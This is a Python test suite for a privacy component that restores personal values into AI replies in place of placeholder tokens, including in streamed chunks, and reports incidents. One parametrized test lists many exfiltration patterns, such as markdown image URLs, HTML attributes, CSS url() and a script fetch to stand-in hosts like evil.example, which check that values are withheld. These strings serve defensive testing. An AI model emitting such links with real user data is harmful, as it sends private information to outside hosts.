"""Restoring: by destination, at every chunk boundary, never guessed."""

from __future__ import annotations

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from govai.core.data import Datum
from govai.core.decisions import Effect
from govai.core.exchange import Channel, Part, ReplySlot, ReplyView, ToolCallView
from govai.core.taxonomy import Sensitivity
from govai.protect.restoring import Restorer
from govai.protect.rewriting import Cut, rewrite
from govai.protect.tokens import Tokens, session_key

NAME = Datum("name", "user.name.first", Sensitivity.CONFIDENTIAL)
EMAIL = Datum("email", "user.contact.email", Sensitivity.CONFIDENTIAL)
KEY = b"k" * 32


def slot(text: str, part: Part = Part.TEXT, *, escaped: bool = False, whole: bool = True) -> ReplySlot:
    return ReplySlot(("t",), text, Channel(0, part), escaped, whole)


def whole(tokens: Tokens, text: str, **kwargs: object) -> tuple[str, list[str]]:
    restorer: Restorer[int] = Restorer(tokens, **kwargs)
    changes = dict(restorer.whole(ReplyView([slot(text)])))
    return changes.get(("t",), text), restorer.incidents


def streamed(
    tokens: Tokens, chunks: list[str], part: Part = Part.TEXT, *, escaped: bool = False, **kwargs: object
) -> list[str]:
    restorer: Restorer[int] = Restorer(tokens, **kwargs)
    out: list[tuple[int, list]] = []
    for number, chunk in enumerate(chunks):
        out += restorer.feed(ReplyView([slot(chunk, part, escaped=escaped, whole=False)]), number)
    out += restorer.finish()
    assert [number for number, _ in out] == list(range(len(chunks)))
    return [dict(changes).get(("t",), chunks[number]) for number, changes in out]


def test_the_value_goes_into_the_event_where_its_placeholder_began() -> None:
    tokens = Tokens(KEY)
    token = tokens.issue(NAME, "Renée")
    assert streamed(tokens, ["Chère ", token[:3], token[3:9], token[9:], ", merci"]) == [
        "Chère ",
        "Renée",
        "",
        "",
        ", merci",
    ]


def test_only_events_that_may_hold_part_of_a_placeholder_wait() -> None:
    tokens = Tokens(KEY)
    token = tokens.issue(NAME, "Renée")
    restorer: Restorer[int] = Restorer(tokens)
    feed = lambda text, n: [item for item, _ in restorer.feed(ReplyView([slot(text, whole=False)]), n)]
    assert feed("Chère ", 0) == [0]
    assert feed(token[:5], 1) == []
    assert feed(token[5:], 2) == []  # the right neighbour decides
    assert feed(",", 3) == [1, 2, 3]
    assert feed("Zoé", 4) == [4]


SCRAPS = (
    "Zq|ZqNameAAAAAAAAAAAA| |.|.c|-|@|e://|https://a/|www.|](|[|]|:|]: |)|<a href='|'>|\"|\\|\\u00|e9|\\n|<|</b>|<!--|-->|\n|\n\n|{|"
    '{"a":"|"}|}|```json\n|\n```\n|url(|é|x|9|<script>|</script>|\u00a0|[1]|田|\\\\|\\"|\u200b|\r\n|= "|Zürich |-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_-_'
).split("|")


@settings(max_examples=300)
@given(st.data())
def test_any_chunking_restores_and_reports_as_the_whole_does(data: st.DataObject) -> None:
    tokens = Tokens(KEY)
    name, mail = tokens.issue(NAME, "Renée O'\"Neil\\"), tokens.issue(EMAIL, "ana@x.example")
    pieces = st.sampled_from([name, mail, name[:9], name[:-1], mail[:4], name + "X", *SCRAPS])
    text = "".join(data.draw(st.lists(pieces, max_size=12)))
    part, escaped = data.draw(
        st.sampled_from([(Part.TEXT, False), (Part.JSON, False), (Part.TOOL, True), (Part.TOOL, False)])
    )
    options = {"receives": {"mail": ("user.contact",)}, "json_answer": data.draw(st.booleans())}
    channel = Channel(0, part)
    announced = ReplyView([], tools=[ToolCallView(channel, "1", "mail")] if part is Part.TOOL else [])
    at_once: Restorer[int] = Restorer(tokens, **options)
    at_once.whole(announced)
    changes = at_once.whole(ReplyView([slot(text, part, escaped=escaped)]))
    cuts = sorted(data.draw(st.sets(st.integers(0, len(text)), max_size=8)))
    chunks = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    streaming: Restorer[int] = Restorer(tokens, **options)
    streaming.feed(announced, -1)
    out: list[tuple[int, list]] = []
    for number, chunk in enumerate(chunks):
        out += streaming.feed(ReplyView([slot(chunk, part, escaped=escaped, whole=False)]), number)
    out += streaming.finish()
    assert [number for number, _ in out] == list(range(len(chunks)))
    restored = "".join(dict(changed).get(("t",), chunks[number]) for number, changed in out)
    assert restored == dict(changes).get(("t",), text)
    assert set(streaming.incidents) == set(at_once.incidents)


@pytest.mark.parametrize(
    "place",
    [
        "[x](https://a.example/?q=TOKEN)",
        "![](TOKEN)",
        "[x](TOKEN)",
        "[x](<a TOKEN>)",
        '![x](/p "TOKEN")',
        "[a]: TOKEN",
        "> [a]: TOKEN",
        "[a]:\nTOKEN",
        "<img src=x?TOKEN>",
        "<a href='TOKEN'>",
        '<a\nhref="TOKEN">',
        "<p title=TOKEN>",
        '<img alt="a<b>" src=TOKEN>',
        "https://TOKEN.evil.example",
        "https://a/TOKEN",
        "http://a/?x=1&y=TOKEN",
        "www.TOKEN",
        "www.a.example/TOKEN",
        "//TOKEN/x",
        "(//a/TOKEN",
        "javascript:TOKEN",
        "mailto:TOKEN",
        "tel:TOKEN",
        "data:text/html,TOKEN",
        "evil.example/TOKEN",
        "evil.example?q=TOKEN",
        "url(TOKEN)",
        "background: url( 'TOKEN')",
        "<https://a/TOKEN>",
        "HTTPS://A/TOKEN",
        "ftp://a/TOKEN",
        "\\\\server\\TOKEN",
        "see:https://a/TOKEN",
        "<!-- TOKEN",
        "<style>@import 'https://a/TOKEN'",
        '{"u":"https:\\/\\/a\\/TOKEN"}',
        '{"u":"https:\\u002f\\u002fa/TOKEN"}',
        '{"m":"[x](TOKEN)"}',
        '{"m":"<a href=\\"TOKEN\\">"}',
        "xTOKEN",
        "TOKENx",
        "TOKEN9",
        "éTOKEN",
        'https://evil.example/?q="TOKEN',
        "https://evil.example/?q=`TOKEN",
        "https://evil.example/?q=>TOKEN",
        "https://evil.example/?q=\u00a0TOKEN",
        "<b 'https://evil.example/'>TOKEN",
        "\\<b x=https://evil.example/>TOKEN",
        "](https://evil.example/)TOKEN",
        "évil.рф/TOKEN",
        "evil。example/TOKEN",
        "evil.example:443/TOKEN",
        "https&#58;//evil.example/TOKEN",
        "TOKEN.evil.example",
        "TOKEN-x_1.evil.example/a",
        "TOKEN\u00ad.evil.example",
        "TOKEN@evil.example",
        "TOKEN+x@evil.example",
        "TOKEN://x",
        "TOKENTOKEN.evil.example",
        "TOKEN" + "-x" * 60,
        "<TOKEN>",
        "[x](/a\\) TOKEN)",
        "[x](< //evil.example/) TOKEN>)",
        "[x](a\nTOKEN)",
        "url('//evil.example/) TOKEN')",
        "<!-- ' --> <img src=\"' > TOKEN",
        '<img a" src="//evil.example/? > TOKEN',
        '<img\n\nsrc = "//evil.example/? > TOKEN',
        "<p a='x' b=\"' > TOKEN",
        '<script>fetch("//e/?" + "TOKEN")',
        "\\<SCRIPT x> a('TOKEN')",
        "<style>a{} TOKEN",
        "https:TOKEN",
        "(javascript:TOKEN",
        "sip:TOKEN",
        "```\nhttps://a/TOKEN\n```",
        "```json\n{\"u\": \"https://a/TOKEN\"}\n```",
        '{"x":"![](https://evil.example/?q=","b":"TOKEN)"}',
        '{"u":"{\\"v\\":\\"https://a/TOKEN\\"}"}',
        '{"u":"TOKEN\\u002eevil.example"}',
        '{"u":"caf\\u00e9TOKEN"}',
        '{"a":"<img src=\\"//e/?","b":"TOKEN"}',
    ],
)
def test_no_value_goes_where_it_would_be_sent_on(place: str) -> None:
    tokens = Tokens(KEY)
    token = tokens.issue(NAME, "Renée")
    text = place.replace("TOKEN", token)
    out, incidents = whole(tokens, text)
    assert out == text
    assert incidents
    assert "".join(streamed(tokens, list(text))) == text


@pytest.mark.parametrize(
    "place",
    [
        "TOKEN",
        "Chère TOKEN,",
        "**TOKEN**",
        "_TOKEN_",
        "(TOKEN)",
        "<b>TOKEN</b>",
        "<a href='x'>TOKEN</a>",
        "[TOKEN](https://a)",
        "a < b TOKEN",
        "https://a TOKEN",
        "see [x](y) TOKEN",
        "`TOKEN`",
        "| TOKEN | b |",
        "- TOKEN",
        '{"n": "TOKEN"}',
        '{"l":"https://a","n":"TOKEN"}',
        '{"t":"x\\nTOKEN"}',
        "l'TOKEN",
        "10:30 TOKEN",
        "Merci TOKEN.\nBien à vous",
        "Merci TOKEN... et à bientôt",
        "TOKEN: oui",
        "TOKEN, TOKEN; TOKEN!",
        "Mme TOKEN-TOKEN",
        "TOKENTOKEN",
        "TOKEN/TOKEN",
        'see <a href="https://a.example/x">TOKEN</a>',
        "<https://a.example> TOKEN",
        "<br/>TOKEN",
        "[x](https://a.example), TOKEN",
        "[a]: https://a.example\nTOKEN",
        "<script>a()</script> TOKEN",
        "print('a\\nTOKEN')",
        "田中TOKENさん",
        "{TOKEN}",
        "[1] TOKEN",
        "```json\n{\"n\": \"TOKEN\"}\n```\nTOKEN",
        '{"html":"<a href=\\"https://a\\">x</a>","n":"TOKEN"}',
        '{"u":"TOKEN\\u00a0!"}',
    ],
)
def test_plain_places_are_restored(place: str) -> None:
    tokens = Tokens(KEY)
    token = tokens.issue(NAME, "Renée")
    text = place.replace("TOKEN", token)
    assert whole(tokens, text) == (place.replace("TOKEN", "Renée"), [])
    assert "".join(streamed(tokens, list(text))) == place.replace("TOKEN", "Renée")


@given(st.text(min_size=1, max_size=20))
def test_json_answers_stay_json(value: str) -> None:
    tokens = Tokens(KEY)
    token = tokens.issue(NAME, value)
    out, _ = whole(tokens, json.dumps({"name": token}), json_answer=True)
    assert json.loads(out) == {"name": value}


def test_a_cut_placeholder_stays_and_is_reported() -> None:
    tokens = Tokens(KEY)
    token = tokens.issue(NAME, "Renée")
    restorer: Restorer[int] = Restorer(tokens)
    held = restorer.feed(ReplyView([slot("Chère " + token[:-1], whole=False)]), 0)
    assert held == []
    assert restorer.finish() == [(0, [])]
    assert restorer.incidents == ["placeholder-cut"]


def test_another_call_s_placeholder_is_not_restored() -> None:
    mine, other = Tokens(KEY), Tokens(session_key(KEY, "other"))
    mine.issue(NAME, "Ana")
    foreign = other.issue(NAME, "Renée")
    assert whole(mine, f"Chère {foreign}") == (f"Chère {foreign}", ["placeholder-unknown"])


@pytest.mark.parametrize(
    ("receives", "expected"), [({}, "TOKEN"), ({"mail": ("user.contact",)}, "TOKEN"), ({"mail": ("user.name",)}, "Ana")]
)
def test_tool_arguments_get_only_what_the_tool_receives(receives: dict, expected: str) -> None:
    tokens = Tokens(KEY)
    token = tokens.issue(NAME, "Ana")
    restorer: Restorer[int] = Restorer(tokens, receives=receives)
    channel = Channel(0, Part.TOOL)
    text = json.dumps({"to": token})
    view = ReplyView([ReplySlot(("t",), text, channel, escaped=True)], tools=[ToolCallView(channel, "1", "mail")])
    changes = dict(restorer.whole(view))
    assert json.loads(changes.get(("t",), text))["to"] == expected.replace("TOKEN", token)


def test_signed_parts_are_never_touched() -> None:
    tokens = Tokens(KEY)
    token = tokens.issue(NAME, "Ana")
    restorer: Restorer[int] = Restorer(tokens)
    assert restorer.whole(ReplyView([slot(token, Part.SIGNED)])) == []


@given(st.text(max_size=20))
def test_a_value_in_json_in_json_leaves_both_readable(value: str) -> None:
    tokens = Tokens(KEY)
    inner = json.dumps({"name": tokens.issue(NAME, value)})
    text = json.dumps({"payload": inner})
    for kwargs in ({}, {"json_answer": True}):
        assert json.loads(json.loads(whole(tokens, text, **kwargs)[0])["payload"]) == {"name": value}
        assert "".join(streamed(tokens, list(text), **kwargs)) == whole(tokens, text, **kwargs)[0]


@given(st.text(max_size=20))
def test_json_in_a_fence_stays_json_and_text_around_it_text(value: str) -> None:
    tokens = Tokens(KEY)
    token = tokens.issue(NAME, value)
    text = f'For {token} :\n```json\n{{"name": "{token}"}}\n```\nFor {token} :'
    out = whole(tokens, text)[0]
    assert out.startswith(f"For {value} :\n```json\n") and out.endswith(f"\n```\nFor {value} :")
    fenced = out[len(f"For {value} :\n```json\n") : -len(f"\n```\nFor {value} :")]
    assert json.loads(fenced) == {"name": value}


def test_a_lone_surrogate_in_a_value_leaves_json_readable() -> None:
    tokens = Tokens(KEY)
    token = tokens.issue(NAME, "a\ud800")
    out = whole(tokens, json.dumps({"n": token}), json_answer=True)[0]
    assert out.isascii() and json.loads(out) == {"n": "a\ud800"}


def test_a_withheld_tool_is_named_and_an_odd_name_is_not() -> None:
    tokens = Tokens(KEY)
    token = tokens.issue(NAME, "Ana")
    channel = Channel(0, Part.TOOL)
    for name, word in (("mail", "mail"), ("Ana's tool", "?"), (token, "?")):
        restorer: Restorer[int] = Restorer(tokens)
        view = ReplyView([slot(f'{{"to":"{token}"}}', Part.TOOL, escaped=True)], tools=[ToolCallView(channel, "1", name)])
        assert restorer.whole(view) == []
        assert restorer.incidents == [f"withheld-tool:{word}"]


def test_a_value_in_a_tool_s_url_stays_hidden_though_the_tool_receives_it() -> None:
    tokens = Tokens(KEY)
    text = f'{{"url":"https://a.example/?q={tokens.issue(NAME, "Ana")}"}}'
    restorer: Restorer[int] = Restorer(tokens, receives={"get": ("user.name",)})
    channel = Channel(0, Part.TOOL)
    assert restorer.whole(ReplyView([slot(text, Part.TOOL, escaped=True)], tools=[ToolCallView(channel, "1", "get")])) == []
    assert restorer.incidents == ["withheld-url"]


def event(text: str, channel: Channel, **kwargs: object) -> ReplyView:
    return ReplyView([ReplySlot(("t",), text, channel, False, False)] if text else [], **kwargs)


def test_choices_do_not_mix() -> None:
    tokens = Tokens(KEY)
    token = tokens.issue(NAME, "Ana")
    restorer: Restorer[str] = Restorer(tokens)
    one, two = Channel(0, Part.TEXT), Channel(1, Part.TEXT)
    out = restorer.feed(event(token[:9], one), "a")
    out += restorer.feed(event("https://x/", two), "b")
    out += restorer.feed(event(token[9:] + " ", one), "c")
    out += restorer.feed(event(token + " ", two), "d")
    out += restorer.finish()
    assert out == [("a", [(("t",), "Ana")]), ("b", []), ("c", [(("t",), " ")]), ("d", [])]


@pytest.mark.parametrize(
    "closing",
    [
        event("x", Channel(0, Part.TEXT, 1)),
        ReplyView([], tools=[ToolCallView(Channel(0, Part.TOOL, 1), "1", "mail")]),
        ReplyView([], finish_reason="stop"),
        ReplyView([], terminal=True),
        ReplyView([ReplySlot(("whole",), "done", Channel(0, Part.TEXT), False, True)]),
    ],
)
def test_the_end_of_a_channel_settles_it(closing: ReplyView) -> None:
    tokens = Tokens(KEY)
    restorer: Restorer[int] = Restorer(tokens)
    assert restorer.feed(event(tokens.issue(NAME, "Ana"), Channel(0, Part.TEXT)), 0) == []
    assert restorer.feed(closing, 1) == [(0, [(("t",), "Ana")]), (1, [])]


def test_a_cut_or_altered_placeholder_inside_a_text_is_reported() -> None:
    tokens = Tokens(KEY)
    token = tokens.issue(NAME, "Ana")
    assert whole(tokens, f"a {token[:-3]} b") == (f"a {token[:-3]} b", ["placeholder-cut"])
    other = token[:-4] + ("AAAA" if not token.endswith("AAAA") else "BBBB")
    assert whole(tokens, f"a {other} b") == (f"a {other} b", ["placeholder-unknown"])
    assert whole(tokens, f"a {token.lower()} b") == (f"a {token.lower()} b", [])


def test_without_placeholders_a_foreign_one_is_still_reported() -> None:
    restorer: Restorer[int] = Restorer(Tokens(KEY))
    for number, chunk in enumerate(["a ZqNa", "meAAAAAA", "AAAAAA b"]):
        assert restorer.feed(ReplyView([slot(chunk, whole=False)]), number) == [(number, [])]
    assert restorer.incidents == ["placeholder-unknown"]


def test_a_look_alike_of_known_data_is_not_taken_for_the_caller_s_text() -> None:
    tokens = Tokens(KEY)
    token = tokens.issue(Datum("text", None, Sensitivity.RESTRICTED), "ZqNameAAAAAAAAAAAA")
    assert whole(tokens, f"https://a/{token}") == (f"https://a/{token}", ["withheld-url"])
